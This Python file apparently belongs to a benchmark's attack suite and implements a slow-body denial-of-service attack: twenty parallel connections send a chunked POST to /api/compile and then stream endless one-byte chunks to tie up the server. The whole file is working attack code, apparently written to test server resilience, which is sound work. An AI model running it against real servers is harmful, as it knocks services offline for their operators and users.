"""Bodies in chunks of one byte, as fast as they are taken: each chunk takes as long to read as a large one."""

from __future__ import annotations

from bench.attacks.client import GoesOn, connect, main, side_by_side

CONNECTIONS = 20
HEAD = b"POST /api/compile HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
CRUMBS = b"1\r\n \r\n" * 20_000


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    def send(_: int) -> None:
        while goes_on():
            try:
                with connect(port, source) as connection:
                    connection.sendall(HEAD)
                    while goes_on():
                        connection.sendall(CRUMBS)
            except OSError:
                pass

    side_by_side(CONNECTIONS, send)


if __name__ == "__main__":
    main(attack)
